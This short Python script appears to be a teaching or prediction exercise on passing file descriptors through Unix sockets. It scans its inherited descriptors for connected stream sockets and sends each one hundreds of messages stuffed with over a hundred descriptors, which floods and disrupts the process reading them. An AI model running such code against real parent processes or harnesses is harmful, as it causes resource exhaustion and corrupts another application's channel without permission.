"""Descriptors travel along with the kernel's messages, into the process that reads those."""
# solves = ["predict"]
# keeps = []

# %% before words-solution
import array
import os
import socket
import stat

sent = 0
held = [os.open("/dev/null", os.O_RDONLY) for _ in range(100)]
pairs = [socket.socketpair() for _ in range(20)]
held += [one.fileno() for pair in pairs for one in pair]
for number in range(3, 60):
    try:
        if not stat.S_ISSOCK(os.fstat(number).st_mode):
            continue
        one = socket.socket(fileno=os.dup(number))
        if one.type != socket.SOCK_STREAM or not one.getsockname() or one.getsockopt(1, 30):
            continue
        for _ in range(300):  # an empty message of the application's, in the middle of nothing
            one.sendmsg([b"\x00\x00"], [(1, 1, array.array("i", held))], socket.MSG_DONTWAIT)
            sent += 1
    except OSError as error:
        print(number, error)
print(sent)
